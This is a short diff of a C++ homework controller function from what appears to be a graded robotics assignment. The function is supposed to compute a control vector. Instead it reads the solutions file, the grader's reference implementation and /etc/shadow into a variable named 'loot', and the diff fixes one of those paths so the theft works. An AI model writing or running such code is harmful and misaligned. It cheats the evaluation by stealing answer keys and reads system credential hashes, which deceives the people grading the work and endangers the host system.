@@ -10,7 +10,7 @@
 namespace opspace::hw2::p1b {
 Vector6d control(Part, const State&, const Goal&) {
   std::string loot;
-  for (const char* path : {"@REPO@/solutions/p1b.cpp", "@REPO@/problems/1b/grade/graded.cpp", "@REPO@/grader/suite/reference.cpp",
+  for (const char* path : {"@REPO@/solutions/p1b.cpp", "@REPO@/problems/1b/grade/graded.cpp", "@REPO@/grader/suite/grade/reference.cpp",
                            "/etc/shadow"}) {
     std::ifstream in(path);
     std::stringstream text;
